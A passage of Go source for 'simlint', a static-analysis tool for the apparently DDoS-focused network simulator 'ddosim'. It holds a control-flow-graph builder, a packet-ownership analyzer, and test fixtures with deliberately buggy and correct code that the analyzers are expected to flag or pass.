			if len(names) > 0 {
				dirs = append(dirs, p)
			}
		}
		return nil
	})
	if err != nil {
		return nil, err
	}
	sort.Strings(dirs)
	pkgs := make([]*Package, 0, len(dirs))
	for _, dir := range dirs {
		pkg, err := l.Load(dir)
		if err != nil {
			return nil, err
		}
		pkgs = append(pkgs, pkg)
	}
	return pkgs, nil
}
