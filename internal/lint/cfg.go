package lint

// cfg.go builds per-function control-flow graphs over plain go/ast —
// the skeleton the ownership dataflow engine (ownership.go) iterates
// to a fixpoint. The graph is statement-granular: each block holds a
// straight-line run of AST nodes (statements, plus the condition and
// tag expressions of the control statement that ends the block), and
// edges over-approximate control flow. Over-approximation is always
// safe here: a spurious path can only widen an ownership fact set,
// never hide a real one.

import (
	"go/ast"
	"go/token"
)

// cfgBlock is one straight-line run of evaluation. nodes contains
// ast.Stmt and ast.Expr values in evaluation order.
type cfgBlock struct {
	nodes []ast.Node
	succs []*cfgBlock
}

// cfg is one function body's control-flow graph. Every return
// statement (and the fall-off-the-end path) leads to exit; paths that
// end in panic lead nowhere, so facts on them never reach the exit
// join — a function that aborts is not charged with leaking.
type cfg struct {
	entry  *cfgBlock
	exit   *cfgBlock
	blocks []*cfgBlock
}

// preds returns the predecessor lists, indexed like successor edges.
func (g *cfg) preds() map[*cfgBlock][]*cfgBlock {
	p := make(map[*cfgBlock][]*cfgBlock, len(g.blocks))
	for _, b := range g.blocks {
		for _, s := range b.succs {
			p[s] = append(p[s], b)
		}
	}
	return p
}

type cfgLoop struct {
	brk   *cfgBlock // break target (loops, switch, select)
	cont  *cfgBlock // continue target (loops only, nil otherwise)
	label string    // label of the enclosing labeled statement, or ""
}

type cfgGoto struct {
	from  *cfgBlock
	label string
}

type cfgBuilder struct {
	g      *cfg
	loops  []cfgLoop
	falls  []*cfgBlock // fallthrough target stack (next case clause)
	labels map[string]*cfgBlock
	gotos  []cfgGoto
}

// buildCFG constructs the graph for one function body.
func buildCFG(body *ast.BlockStmt) *cfg {
	b := &cfgBuilder{g: &cfg{}, labels: make(map[string]*cfgBlock)}
	b.g.entry = b.newBlock()
	b.g.exit = b.newBlock()
	if out := b.stmtList(b.g.entry, body.List); out != nil {
		b.edge(out, b.g.exit)
	}
	// goto targets may be defined after the jump; patch at the end.
	// Unknown labels (malformed code) conservatively edge to exit.
	for _, gt := range b.gotos {
		if t := b.labels[gt.label]; t != nil {
			b.edge(gt.from, t)
		} else {
			b.edge(gt.from, b.g.exit)
		}
	}
	return b.g
}

func (b *cfgBuilder) newBlock() *cfgBlock {
	blk := &cfgBlock{}
	b.g.blocks = append(b.g.blocks, blk)
	return blk
}

func (b *cfgBuilder) edge(from, to *cfgBlock) {
	for _, s := range from.succs {
		if s == to {
			return
		}
	}
	from.succs = append(from.succs, to)
}

// stmtList threads a statement sequence through cur, returning the
// block where control continues, or nil when every path terminated.
// Unreachable trailing statements get an island block: their effects
// are still walked (keeping the node evaluator total) but no facts
// flow into or out of them.
func (b *cfgBuilder) stmtList(cur *cfgBlock, list []ast.Stmt) *cfgBlock {
	for _, s := range list {
		if cur == nil {
			cur = b.newBlock()
		}
		cur = b.stmt(cur, s, "")
	}
	return cur
}

func (b *cfgBuilder) stmt(cur *cfgBlock, s ast.Stmt, label string) *cfgBlock {
	switch s := s.(type) {
	case nil, *ast.EmptyStmt:
		return cur

	case *ast.BlockStmt:
		return b.stmtList(cur, s.List)

	case *ast.LabeledStmt:
		start := b.newBlock()
		b.edge(cur, start)
		b.labels[s.Label.Name] = start
		return b.stmt(start, s.Stmt, s.Label.Name)

	case *ast.IfStmt:
		cur = b.stmt(cur, s.Init, "")
		cur.nodes = append(cur.nodes, s.Cond)
		after := b.newBlock()
		thenB := b.newBlock()
		b.edge(cur, thenB)
		if out := b.stmtList(thenB, s.Body.List); out != nil {
			b.edge(out, after)
		}
		if s.Else != nil {
			elseB := b.newBlock()
			b.edge(cur, elseB)
			if out := b.stmt(elseB, s.Else, ""); out != nil {
				b.edge(out, after)
			}
		} else {
			b.edge(cur, after)
		}
		return after

	case *ast.ForStmt:
		cur = b.stmt(cur, s.Init, "")
		head := b.newBlock()
		b.edge(cur, head)
		if s.Cond != nil {
			head.nodes = append(head.nodes, s.Cond)
		}
		after := b.newBlock()
		post := b.newBlock()
		if s.Cond != nil {
			b.edge(head, after)
		}
		body := b.newBlock()
		b.edge(head, body)
		b.loops = append(b.loops, cfgLoop{brk: after, cont: post, label: label})
		out := b.stmtList(body, s.Body.List)
		b.loops = b.loops[:len(b.loops)-1]
		if out != nil {
			b.edge(out, post)
		}
		if s.Post != nil {
			post.nodes = append(post.nodes, s.Post)
		}
		b.edge(post, head)
		return after

	case *ast.RangeStmt:
		head := b.newBlock()
		b.edge(cur, head)
		// The RangeStmt node itself evaluates the ranged expression and
		// (re)binds the iteration variables, once per trip through head.
		head.nodes = append(head.nodes, s)
		after := b.newBlock()
		b.edge(head, after)
		body := b.newBlock()
		b.edge(head, body)
		b.loops = append(b.loops, cfgLoop{brk: after, cont: head, label: label})
		out := b.stmtList(body, s.Body.List)
		b.loops = b.loops[:len(b.loops)-1]
		if out != nil {
			b.edge(out, head)
		}
		return after

	case *ast.SwitchStmt:
		cur = b.stmt(cur, s.Init, "")
		if s.Tag != nil {
			cur.nodes = append(cur.nodes, s.Tag)
		}
		return b.caseClauses(cur, s.Body.List, label)

	case *ast.TypeSwitchStmt:
		cur = b.stmt(cur, s.Init, "")
		cur.nodes = append(cur.nodes, s.Assign)
		return b.caseClauses(cur, s.Body.List, label)

	case *ast.SelectStmt:
		after := b.newBlock()
		b.loops = append(b.loops, cfgLoop{brk: after, label: label})
		for _, cs := range s.Body.List {
			cc := cs.(*ast.CommClause)
			cb := b.newBlock()
			b.edge(cur, cb)
			next := b.stmt(cb, cc.Comm, "")
			if out := b.stmtList(next, cc.Body); out != nil {
				b.edge(out, after)
			}
		}
		b.loops = b.loops[:len(b.loops)-1]
		return after

	case *ast.ReturnStmt:
		cur.nodes = append(cur.nodes, s)
		b.edge(cur, b.g.exit)
		return nil

	case *ast.BranchStmt:
		switch s.Tok {
		case token.BREAK:
			if t := b.branchTarget(s.Label, false); t != nil {
				b.edge(cur, t)
			}
		case token.CONTINUE:
			if t := b.branchTarget(s.Label, true); t != nil {
				b.edge(cur, t)
			}
		case token.GOTO:
			b.gotos = append(b.gotos, cfgGoto{from: cur, label: s.Label.Name})
		case token.FALLTHROUGH:
			if n := len(b.falls); n > 0 && b.falls[n-1] != nil {
				b.edge(cur, b.falls[n-1])
			}
		}
		return nil

	default:
		// Straight-line statements: ExprStmt, AssignStmt, DeclStmt,
		// IncDecStmt, SendStmt, GoStmt, DeferStmt.
		cur.nodes = append(cur.nodes, s)
		if isPanicStmt(s) {
			// Unwinding path: no successor, so facts on it never reach
			// the exit join.
			return nil
		}
		return cur
	}
}

// caseClauses wires a switch (expression or type) body: every clause
// is reachable from the dispatch block, fallthrough reaches the next
// clause, and a missing default adds the skip edge.
func (b *cfgBuilder) caseClauses(cur *cfgBlock, clauses []ast.Stmt, label string) *cfgBlock {
	after := b.newBlock()
	b.loops = append(b.loops, cfgLoop{brk: after, label: label})
	blocks := make([]*cfgBlock, len(clauses))
	for i := range clauses {
		blocks[i] = b.newBlock()
	}
	hasDefault := false
	for i, cs := range clauses {
		cc := cs.(*ast.CaseClause)
		if cc.List == nil {
			hasDefault = true
		}
		cb := blocks[i]
		b.edge(cur, cb)
		for _, e := range cc.List {
			cb.nodes = append(cb.nodes, e)
		}
		var fall *cfgBlock
		if i+1 < len(blocks) {
			fall = blocks[i+1]
		}
		b.falls = append(b.falls, fall)
		out := b.stmtList(cb, cc.Body)
		b.falls = b.falls[:len(b.falls)-1]
		if out != nil {
			b.edge(out, after)
		}
	}
	b.loops = b.loops[:len(b.loops)-1]
	if !hasDefault {
		b.edge(cur, after)
	}
	return after
}

// branchTarget resolves break/continue, labeled or not, to its block.
func (b *cfgBuilder) branchTarget(label *ast.Ident, wantContinue bool) *cfgBlock {
	for i := len(b.loops) - 1; i >= 0; i-- {
		l := b.loops[i]
		if wantContinue && l.cont == nil {
			continue // break-only scopes (switch/select) are transparent to continue
		}
		if label != nil && l.label != label.Name {
			continue
		}
		if wantContinue {
			return l.cont
		}
		return l.brk
	}
	return nil
}

// isPanicStmt reports whether s is a bare panic(...) call — the one
// statement form treated as terminating. Matching the identifier by
// name (rather than through go/types) keeps the builder usable before
// type information exists; shadowing panic would only cost precision,
// not soundness.
func isPanicStmt(s ast.Stmt) bool {
	es, ok := s.(*ast.ExprStmt)
	if !ok {
		return false
	}
	call, ok := ast.Unparen(es.X).(*ast.CallExpr)
	if !ok {
		return false
	}
	id, ok := ast.Unparen(call.Fun).(*ast.Ident)
	return ok && id.Name == "panic"
}
