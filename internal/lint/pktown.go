package lint

// PktOwn is the static half of the pooled-packet lifetime tooling:
// use-after-release, double-release, release-after-hand-off, and pool
// leaks, computed by the flow-sensitive ownership engine
// (ownership.go) and cross-validated at runtime by the simdebug
// sanitizer in internal/netsim. PktOwn and StaleCapture share one
// engine so the whole-run dataflow fixpoint happens once.
type PktOwn struct {
	eng *ownEngine
}

// NewOwnership builds the pktown/stalecapture analyzer pair over a
// shared ownership engine configured for the netsim packet pool.
func NewOwnership() (*PktOwn, *StaleCapture) {
	eng := newOwnEngine(DefaultOwnConfig())
	return &PktOwn{eng: eng}, &StaleCapture{eng: eng}
}

// Name implements Analyzer.
func (p *PktOwn) Name() string { return "pktown" }

// Doc implements Analyzer.
func (p *PktOwn) Doc() string {
	return "use-after-release, double-release, and leaks of pooled *netsim.Packet values"
}

// Prepare implements Preparer: the dataflow fixpoint over every
// function in the run, before per-package reporting starts.
func (p *PktOwn) Prepare(pkgs []*Package) { p.eng.Prepare(pkgs) }

// Run implements Analyzer by replaying the engine's pktown findings
// through the pass's allow filter.
func (p *PktOwn) Run(pass *Pass) { p.eng.report(pass, p.Name()) }
