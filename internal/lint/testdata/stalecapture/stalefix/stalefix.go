// Package stalefix exercises the stalecapture analyzer: scheduler
// callbacks capturing pooled packets whose lifetime ends before the
// event can fire under the slot/generation kernel.
package stalefix

import (
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// BadBorrowCapture schedules a callback over a borrowed packet: the
// borrow ends when this function returns, the event fires later.
func BadBorrowCapture(sched *sim.Scheduler, pkt *netsim.Packet) {
	sched.Schedule(sim.Millisecond, func() {
		_ = pkt.Size()
	})
}

// BadLoopVarCapture captures the per-iteration range variable of a
// borrowed batch — every one of those borrows is dead by fire time.
func BadLoopVarCapture(sched *sim.Scheduler, batch []*netsim.Packet) {
	for _, p := range batch {
		sched.Schedule(sim.Millisecond, func() {
			_ = p.Size()
		})
	}
}

// BadDeadCapture schedules a callback over a packet that was already
// released at capture time.
func BadDeadCapture(sched *sim.Scheduler, w *netsim.Network) {
	p := w.AllocPacket()
	w.ReleasePacket(p)
	sched.Schedule(sim.Millisecond, func() {
		_ = p.PayloadSize()
	})
}

// BadReleaseWhileCaptured releases an owned packet that a pending
// callback still references.
func BadReleaseWhileCaptured(sched *sim.Scheduler, w *netsim.Network) {
	p := w.AllocPacket()
	sched.Schedule(sim.Millisecond, func() {
		_ = p.PayloadSize()
	})
	w.ReleasePacket(p)
}

// BadTickerCapture: NewTicker callbacks outlive the frame exactly like
// Schedule ones.
func BadTickerCapture(sched *sim.Scheduler, pkt *netsim.Packet) *sim.Ticker {
	return sim.NewTicker(sched, sim.Second, func() {
		_ = pkt.PayloadSize()
	})
}

// OkOwnedTransfer captures an owned packet and never touches it again:
// ownership moves into the callback (which releases it) — the
// sanctioned loopback idiom.
func OkOwnedTransfer(sched *sim.Scheduler, w *netsim.Network) {
	p := w.AllocPacket()
	sched.Schedule(sim.Microsecond, func() {
		w.ReleasePacket(p)
	})
}

// OkCloneCapture clones before scheduling, so the callback owns its
// own copy whatever happens to the original.
func OkCloneCapture(sched *sim.Scheduler, w *netsim.Network, pkt *netsim.Packet) {
	cp := pkt.Clone()
	sched.Schedule(sim.Millisecond, func() {
		_ = cp.Size()
	})
}

// OkPlainValueCapture captures only non-pooled values; nothing to
// report regardless of callback lifetime.
func OkPlainValueCapture(sched *sim.Scheduler, pkt *netsim.Packet) {
	size := pkt.Size()
	sched.Schedule(sim.Millisecond, func() {
		_ = size
	})
}

// OkAllowed is the audited suppression of a borrowed capture.
func OkAllowed(sched *sim.Scheduler, pkt *netsim.Packet) {
	//simlint:allow stalecapture(fixture demonstrates audited suppression of a capture finding)
	sched.Schedule(sim.Millisecond, func() {
		_ = pkt.Size()
	})
}
