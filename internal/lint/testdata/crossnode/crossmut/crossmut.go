// Package crossmut exercises the crossnode analyzer: handlers that
// obtain a different node or device — registry lookup, neighbor
// pointer, control-plane bookkeeping — and mutate it directly instead
// of going through the message path.
package crossmut

import (
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// Balancer is control-plane state holding partition values: its
// device list is exactly the faults/churn bookkeeping shape.
type Balancer struct {
	sched  *sim.Scheduler
	net    *netsim.Network
	devs   []*netsim.NetDevice
	rounds int
}

// Start wires rebalance as a bound method-value callback.
func (b *Balancer) Start() {
	b.sched.Schedule(sim.Second, b.rebalance)
}

func (b *Balancer) rebalance() {
	b.rounds++ // clean: the handler's own counter
	gw := b.net.Node("gw")
	gw.SetForwarding(true) // want: crossnode (node obtained via registry lookup)
	for _, d := range b.devs {
		d.SetUp(false) // want: crossnode (device reached from control-plane state)
	}
}

// Neighbor mutates the device at the other end of a link — the
// neighbor-pointer crossing.
func Neighbor(sched *sim.Scheduler, d *netsim.NetDevice) {
	sched.Schedule(sim.Second, func() {
		d.Peer().SetUp(true) // want: crossnode (neighbor obtained via Peer)
	})
}
