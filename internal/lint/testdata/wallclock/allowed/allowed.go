// Package allowed is a simlint fixture standing in for an allowlisted
// package (like internal/obs): wall-clock use here is policy.
package allowed

import "time"

// WallNow is fine when the package is on the analyzer's allowlist.
func WallNow() int64 { return time.Now().UnixNano() }
