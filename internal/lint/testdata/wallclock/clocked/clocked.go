// Package clocked is a simlint fixture: wall-clock use that the
// wallclock analyzer must flag, next to time-package use it must not.
package clocked

import "time"

// Bad: every one of these reads or waits on the host clock.
func bad() time.Duration {
	start := time.Now()
	time.Sleep(10 * time.Millisecond)
	timer := time.NewTimer(time.Second)
	timer.Stop()
	return time.Since(start)
}

// Good: durations, arithmetic on supplied values, and methods on
// time.Time values are pure.
func good(t time.Time, d time.Duration) time.Time {
	const tick = 250 * time.Millisecond
	return t.Add(d + tick)
}

// Allowed: an annotated call site is suppressed.
func allowed() time.Time {
	return time.Now() //simlint:allow wallclock(fixture: annotated escape hatch)
}
