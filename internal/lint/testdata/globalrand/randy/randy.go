// Package randy is a simlint fixture: global math/rand use the
// globalrand analyzer must flag, next to the injected-RNG idiom it
// must not.
package randy

import "math/rand"

// Bad: package-level functions draw from the shared global generator.
func bad() float64 {
	n := rand.Intn(10)
	rand.Shuffle(n, func(i, j int) {})
	return rand.Float64()
}

// BadSource: the generator's seed is hidden behind a variable, so the
// rand.New(rand.NewSource(seed)) idiom cannot be verified.
func badSource(src rand.Source) *rand.Rand {
	return rand.New(src)
}

// Good: an inline-seeded generator, and methods on injected ones.
func good(seed int64, rng *rand.Rand) float64 {
	local := rand.New(rand.NewSource(seed))
	return local.Float64() + rng.Float64()
}
