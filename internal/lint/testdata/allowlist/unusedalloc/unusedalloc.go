// Package unusedalloc carries one live and one stale allocfree
// suppression for the -unused-allows audit: the annotation on the hot
// make consumes a finding, the one on the cold path suppresses
// nothing and must be reported.
package unusedalloc

// Hot allocates on a declared hot path behind an audited allow; the
// audit must treat that annotation as used.
//
//simlint:hotpath
func Hot(n *int) {
	*n++
	_ = make([]byte, 8) //simlint:allow allocfree(fixture: deliberate hot allocation, suppressed)
}

// Cold is never reached from a hot root, so its annotation suppresses
// nothing and the audit must flag it as stale.
func Cold() []byte {
	return make([]byte, 8) //simlint:allow allocfree(fixture: stale suppression on a cold path)
}
