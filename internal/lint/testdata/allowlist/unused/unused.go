// Package unused exercises the -unused-allows audit: one annotation
// that suppresses a real finding (live) and one on a clean line
// (stale, reported by RunOpts.UnusedAllows).
package unused

import "ddosim/internal/sim"

var hits int

// Live schedules a handler whose global write is suppressed by an
// audited allow — the annotation is used.
func Live(sched *sim.Scheduler) {
	sched.Schedule(sim.Second, func() {
		//simlint:allow shardconfine(test fixture: live suppression)
		hits++
	})
}

// Stale carries an allow on a line with nothing to suppress.
func Stale(sched *sim.Scheduler) {
	sched.Schedule(sim.Second, func() {
		//simlint:allow shardconfine(test fixture: nothing here to suppress)
		_ = sched.Now()
	})
}
