// Package multi exercises the extended allow-annotation grammar:
// comma-separated analyzer lists, digits in analyzer names, and the
// malformed-annotation diagnostics that must survive the extension.
package multi

import "ddosim/internal/netsim"

// CommaList: one annotation suppresses several analyzers with one
// shared, audited reason.
func CommaList(w *netsim.Network) int {
	p := w.AllocPacket()
	w.ReleasePacket(p)
	//simlint:allow pktown,stalecapture(comma-list fixture: one audited reason covers both analyzers)
	return p.PayloadSize()
}

// DigitsInName: analyzer names may contain digits (but not start with
// one); an unknown name is inert, not malformed.
func DigitsInName() {
	//simlint:allow ipv6check2(digits in analyzer names parse)
	_ = 0
}

// Malformed annotations must still be diagnosed:
//
//simlint:allow pktown()
//simlint:allow Bad-Name(uppercase and dash are not an analyzer name)
//simlint:allow 2fast(names cannot start with a digit)
func Malformed() {}
