// Package schedy is a simlint fixture: scheduler callbacks with
// blocking or concurrent operations the schedblock analyzer must
// flag, next to well-behaved ones it must not.
package schedy

import (
	"sync"

	"ddosim/internal/sim"
)

// Bad: channel operations, locks, and goroutines inside callbacks.
func bad(s *sim.Scheduler, ch chan int, mu *sync.Mutex) {
	s.Schedule(sim.Second, func() {
		ch <- 1
	})
	s.ScheduleAt(sim.Second, func() {
		mu.Lock()
		defer mu.Unlock()
	})
	s.ScheduleSrc(sim.Second, "fixture", func() {
		go func() {}()
	})
	sim.NewTicker(s, sim.Second, func() {
		<-ch
	})
}

// Good: callbacks that stay on the event loop.
func good(s *sim.Scheduler, counter *int) {
	s.Schedule(sim.Second, func() {
		*counter++
	})
	// Channel use outside a callback is not schedblock's concern.
	ready := make(chan struct{})
	close(ready)
}
