// Package netsim is a simlint fixture (the directory name puts it in
// the maporder analyzer's determinism-critical set): side-effecting
// map ranges it must flag, order-independent ones it must not, and
// the //simlint:allow escape hatch in both valid and invalid forms.
package netsim

func observe(string) {}

// badCall: calling into other code per iteration leaks map order into
// event ordering.
func badCall(m map[string]int) {
	for k := range m {
		observe(k)
	}
}

// badAppend: the outer slice records iteration order.
func badAppend(m map[string]int) []string {
	var keys []string
	for k := range m {
		keys = append(keys, k)
	}
	return keys
}

// badSend: channel sends publish iteration order.
func badSend(m map[string]int, ch chan string) {
	for k := range m {
		ch <- k
	}
}

// badDelete: delete mutates the map mid-iteration.
func badDelete(m map[string]int) {
	for k, v := range m {
		if v == 0 {
			delete(m, k)
		}
	}
}

// goodReduce: a commutative reduction with only pure builtins cannot
// observe order.
func goodReduce(m map[string][]byte) int {
	n := 0
	for _, v := range m {
		n += len(v)
	}
	return n
}

// goodSlice: ranging a slice is always ordered; calls are fine.
func goodSlice(s []string) {
	for _, v := range s {
		observe(v)
	}
}

// goodLocalAppend: the collected slice dies inside the loop body.
func goodLocalAppend(m map[string][][]byte) int {
	n := 0
	for _, chunks := range m {
		joined := []byte{}
		for _, c := range chunks {
			joined = append(joined, c...)
		}
		n += len(joined)
	}
	return n
}

// allowedTrailing: suppressed by a trailing annotation.
func allowedTrailing(m map[string]int) []string {
	var keys []string
	for k := range m { //simlint:allow maporder(fixture: collect-then-sort)
		keys = append(keys, k)
	}
	return keys
}

// allowedAbove: suppressed by an annotation on the previous line.
func allowedAbove(m map[string]int) []string {
	var keys []string
	//simlint:allow maporder(fixture: collect-then-sort)
	for k := range m {
		keys = append(keys, k)
	}
	return keys
}

// emptyReason: a reason-less annotation is itself a finding and does
// not suppress the map-range diagnostic.
func emptyReason(m map[string]int) []string {
	var keys []string
	for k := range m { //simlint:allow maporder()
		keys = append(keys, k)
	}
	return keys
}
