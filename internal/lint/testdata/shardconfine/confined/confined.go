// Package confined exercises the shardconfine analyzer: writes to
// package-level state and mutations of captured foreign partition
// state inside scheduler-reachable handlers, including the
// method-value handler idiom (a bound callback passed to Schedule).
package confined

import (
	"ddosim/internal/netsim"
	"ddosim/internal/sim"
)

// totalTicks is package-level mutable state no partition owns.
var totalTicks int

// Agent is a control-plane unit whose tick runs as a scheduled
// method-value callback.
type Agent struct {
	sched *sim.Scheduler
	local int
}

// Start schedules tick as a bound method value — the PR 3 bound
// tx/prop callback idiom the engine must treat as a handler root.
func (a *Agent) Start() {
	a.sched.Schedule(sim.Second, a.tick)
}

func (a *Agent) tick() {
	totalTicks++ // want: shardconfine (package-level write)
	a.local++    // clean: the handler's own state
}

// Watch schedules a literal that captures a foreign node and mutates
// it — cross-partition state entering the handler from outside.
func Watch(sched *sim.Scheduler, victim *netsim.Node) {
	sched.Schedule(sim.Second, func() {
		victim.SetForwarding(true) // want: shardconfine (captured foreign node)
	})
}

// Audited is the escape hatch: the same shape as Watch, with an
// audited allow carrying the justification.
func Audited(sched *sim.Scheduler, admin *netsim.Node) {
	sched.Schedule(sim.Second, func() {
		//simlint:allow shardconfine(test fixture: audited admin toggle, rerouted by the sharding PR)
		admin.SetForwarding(false)
	})
}
