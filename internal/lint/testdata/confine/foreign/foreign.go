// Package foreign is the deliberate cross-partition mutation — the
// shard-confinement cross-validation target: the shardconfine
// analyzer must flag the foreign-node write in the datagram handler
// at its exact line (golden/confine_foreign.txt pins it), and the
// same line must panic in the runtime confinement sanitizer when the
// handler actually fires under `go test -tags simdebug`
// (internal/netsim/confine_test.go imports this package, delivers a
// datagram, and asserts the panic). One bug, two catchers — the same
// contract the pktown/uaf fixture pins for the pooled-packet path.
package foreign

import (
	"net/netip"

	"ddosim/internal/netsim"
)

// Install binds a UDP handler on node a whose body reaches over to a
// *different* node and mutates its tracked state directly — the
// access that becomes a data race once the kernel shards.
func Install(a, victim *netsim.Node, port uint16) error {
	_, err := a.BindUDP(port, func(src netip.AddrPort, payload []byte, pad int) {
		victim.SetForwarding(true) // foreign-node mutation: flagged statically, panics under simdebug
	})
	return err
}
