// Package uaf is the deliberate pooled-packet use-after-release — the
// cross-validation target: the pktown analyzer must flag the read in
// Provoke at its exact line (golden/pktown_uaf.txt pins it), and the
// same call must panic in the runtime sanitizer when executed under
// `go test -tags simdebug` (internal/netsim/sanitize_test.go imports
// this package and asserts the panic message). One bug, two catchers.
package uaf

import "ddosim/internal/netsim"

// Provoke allocates a pooled packet, releases it back to the free
// list, then reads it — the memory-error pattern the paper's exploit
// chain weaponizes.
func Provoke(w *netsim.Network) int {
	p := w.AllocPacket()
	p.Payload = []byte("boom")
	w.ReleasePacket(p)
	return p.Size() // use-after-release: flagged statically, panics under simdebug
}
