// Package pktfix exercises the pktown ownership analyzer: the Bad
// functions are true positives the golden file pins to exact lines,
// the Ok functions are true negatives guarding the engine against
// false alarms on the idioms the real tree uses.
package pktfix

import "ddosim/internal/netsim"

// BadUseAfterRelease reads a packet after returning it to the pool.
func BadUseAfterRelease(w *netsim.Network) int {
	p := w.AllocPacket()
	w.ReleasePacket(p)
	return p.PayloadSize()
}

// BadDoubleRelease frees the same packet twice.
func BadDoubleRelease(w *netsim.Network) {
	p := w.AllocPacket()
	w.ReleasePacket(p)
	w.ReleasePacket(p)
}

// BadUseAfterSend touches a packet after the terminal hand-off to the
// send path.
func BadUseAfterSend(n *netsim.Node, w *netsim.Network) int {
	p := w.AllocPacket()
	n.SendPacket(p)
	return p.Size()
}

// BadLeak returns without releasing or handing off on the drop path.
func BadLeak(w *netsim.Network, drop bool) {
	p := w.AllocPacket()
	if drop {
		return
	}
	w.ReleasePacket(p)
}

// BadDiscard drops an owned allocation on the floor.
func BadDiscard(w *netsim.Network) {
	w.AllocPacket()
}

// releaseHelper frees its argument unconditionally; its function
// summary carries the release to callers.
func releaseHelper(w *netsim.Network, p *netsim.Packet) {
	w.ReleasePacket(p)
}

// BadInterproc releases through the helper, then touches the packet —
// visible only through the interprocedural summary.
func BadInterproc(w *netsim.Network) int {
	p := w.AllocPacket()
	releaseHelper(w, p)
	return p.Size()
}

// sendHelper hands its argument to the send path unconditionally.
func sendHelper(n *netsim.Node, p *netsim.Packet) {
	n.SendPacket(p)
}

// BadInterprocSend releases after an interprocedural hand-off.
func BadInterprocSend(n *netsim.Node, w *netsim.Network) {
	p := w.AllocPacket()
	sendHelper(n, p)
	w.ReleasePacket(p)
}

// OkSendOnAllPaths hands the packet off exactly once on every path.
func OkSendOnAllPaths(n *netsim.Node, w *netsim.Network, abort bool) {
	p := w.AllocPacket()
	if abort {
		w.ReleasePacket(p)
		return
	}
	n.SendPacket(p)
}

// OkDeferRelease releases via defer; the packet stays usable until
// return and the exit leak check knows it is covered.
func OkDeferRelease(w *netsim.Network) int {
	p := w.AllocPacket()
	defer w.ReleasePacket(p)
	return p.Size()
}

// OkLoop rebinds the variable each iteration after a terminal
// hand-off; no state leaks across iterations.
func OkLoop(n *netsim.Node, w *netsim.Network, k int) {
	for i := 0; i < k; i++ {
		p := w.AllocPacket()
		p.Pad = i
		n.SendPacket(p)
	}
}

// OkBorrowedParam only reads its borrowed argument.
func OkBorrowedParam(p *netsim.Packet) int {
	return p.Size() + p.PayloadSize()
}

// OkNilCompare: comparing a released pointer is legal Go, not a use.
func OkNilCompare(w *netsim.Network) bool {
	p := w.AllocPacket()
	w.ReleasePacket(p)
	return p != nil
}

// OkAllowed is the allow-suppression case: the finding on the read
// below is audited away.
func OkAllowed(w *netsim.Network) int {
	p := w.AllocPacket()
	w.ReleasePacket(p)
	//simlint:allow pktown(fixture demonstrates audited suppression of an ownership finding)
	return p.PayloadSize()
}
