// Package hotgrammar exercises the edges of the hotpath/allow
// grammar: a floating directive that roots nothing, a malformed
// directive with trailing junk, and a comma-separated allow list that
// names allocfree alongside another analyzer.
package hotgrammar

import "ddosim/internal/sim"

// Multi allocates behind a shared suppression: the comma list names
// both allocfree and pktown, so the allocfree finding on the make is
// consumed here and pktown would consume the same entry in its run.
//
//simlint:hotpath
func Multi(s *sim.Scheduler, n *int) {
	*n++
	b := make([]byte, 4) //simlint:allow allocfree,pktown(fixture: one audited suppression shared across analyzers)
	_ = b
}

// Floating holds a directive inside a body instead of a doc comment;
// it roots nothing and must be reported saying so.
func Floating() int {
	//simlint:hotpath
	return 0
}

// NotARoot's directive has trailing junk, so it is not a hotpath
// directive at all — the allow scanner reports it as malformed and
// the function stays cold.
//
//simlint:hotpath(extra junk)
func NotARoot() []byte {
	return make([]byte, 4)
}
