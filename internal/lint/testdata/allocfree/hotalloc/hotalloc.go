// Package hotalloc is the deliberate hot-path allocator: the
// allocfree cross-validation fixture. TestAllocFreeHotAlloc pins the
// per-event closure in Pump to its exact file:line, and
// internal/sim/allocsentinel_test.go (-tags simdebug) drives the same
// two pump shapes under the runtime allocation sentinel — one bug,
// two catchers, mirroring the pktown/uaf contract.
package hotalloc

import "ddosim/internal/sim"

// Pump is a self-rearming event loop that allocates a fresh capturing
// closure for every event it schedules — the exact bug class the
// pre-bound-callback idiom (Flooder.tickFn, TCPConn.rtoFn) exists to
// prevent.
//
//simlint:hotpath
func Pump(s *sim.Scheduler, budget *int) {
	if *budget <= 0 {
		return
	}
	*budget--
	s.Schedule(1, func() { Pump(s, budget) })
}

// BoundPump is the fixed shape: the re-arm callback is bound once in
// setup, so the hot tick schedules a stored func value and allocates
// nothing.
type BoundPump struct {
	s      *sim.Scheduler
	budget int
	fn     func()
}

// NewBoundPump binds the tick callback once. Construction is cold —
// neither the escaping composite nor the bound method value here is a
// finding, because no hot root reaches this function.
func NewBoundPump(s *sim.Scheduler, budget int) *BoundPump {
	p := &BoundPump{s: s, budget: budget}
	p.fn = p.Tick
	return p
}

// Tick re-arms through the pre-bound callback and must stay silent.
//
//simlint:hotpath
func (p *BoundPump) Tick() {
	if p.budget <= 0 {
		return
	}
	p.budget--
	p.s.Schedule(1, p.fn)
}

// Start schedules the first tick; like construction it is cold.
func (p *BoundPump) Start() {
	p.s.Schedule(1, p.fn)
}

// Done reports whether the pump has drained its budget.
func (p *BoundPump) Done() bool { return p.budget <= 0 }

// Pool mimics the pooled-constructor idiom: the refill inside Get
// allocates, but seeding it via AllocConfig.AllocFree pins its
// summary alloc-free — the amortized refill does not count against
// callers. TestAllocSummaryFixpoint exercises both configurations.
type Pool struct{ free [][]byte }

// Get pops a buffer from the free list, refilling when empty.
func (p *Pool) Get() []byte {
	if n := len(p.free); n > 0 {
		b := p.free[n-1]
		p.free = p.free[:n-1]
		return b
	}
	return make([]byte, 64)
}

// FromPool builds on Get: with Get sanctioned it summarizes
// alloc-free, without it the fixpoint propagates Get's make upward.
func FromPool(p *Pool) []byte { return p.Get() }
