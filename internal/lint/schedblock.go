package lint

import (
	"go/ast"
	"go/token"
	"go/types"
)

// SchedBlock inspects function literals passed to the simulation
// kernel's scheduling entry points (sim.Scheduler.Schedule*,
// sim.NewTicker) and to the sharded kernel's mailbox and barrier
// idioms (sim.LP.SendFunc, sim.Scheduler.Barrier, sim.ShardSet.WithLP,
// sim.ShardSet.AddTask). Those callbacks execute on an event loop —
// a shard worker's, the control scheduler's, or the coordinator's
// barrier phase: a channel operation or lock wait inside one
// deadlocks the entire simulation, and a spawned goroutine races the
// kernel state the loop exists to serialize.
type SchedBlock struct {
	// SimPkg is the import path of the scheduler package.
	SimPkg string
}

// NewSchedBlock returns the analyzer bound to the repo's kernel.
func NewSchedBlock() *SchedBlock {
	return &SchedBlock{SimPkg: "ddosim/internal/sim"}
}

func (s *SchedBlock) Name() string { return "schedblock" }

